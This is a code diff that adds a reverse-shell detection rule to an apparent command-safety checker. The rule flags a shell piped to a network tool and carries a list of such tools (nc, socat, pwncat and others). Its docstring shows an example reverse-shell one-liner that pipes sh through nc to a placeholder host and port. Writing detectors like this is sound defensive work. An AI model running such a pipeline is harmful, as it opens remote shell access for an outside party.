@@ -118,5 +118,21 @@ def setuid_shell(cmd: SimpleCommand) -> str | None:
     return None
 
 
+_NETWORK = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat", "pwncat"})
+
+
+def shell_in_network_pipe(records: Sequence[SimpleCommand]) -> str | None:
+    """`cat f | sh -i 2>&1 | nc host 4444 > f`: a shell whose input and output cross the network."""
+    for cmd in records:
+        if not cmd.stdin_code or cmd.name not in unwrap.SHELLS:
+            continue
+        peers = [r for r in records if r.pipeline == cmd.pipeline and r is not cmd]
+        if any(r.name in _NETWORK for r in peers):
+            return (
+                f"`{show(cmd)}` is wired to a network connection in its pipeline (a reverse shell)"
+            )
+    return None
+
+
 RULES = (persistence, reverse_shell, setuid_shell)
-CROSS_RULES = (code_reverse_shell,)
+CROSS_RULES = (code_reverse_shell, shell_in_network_pipe)
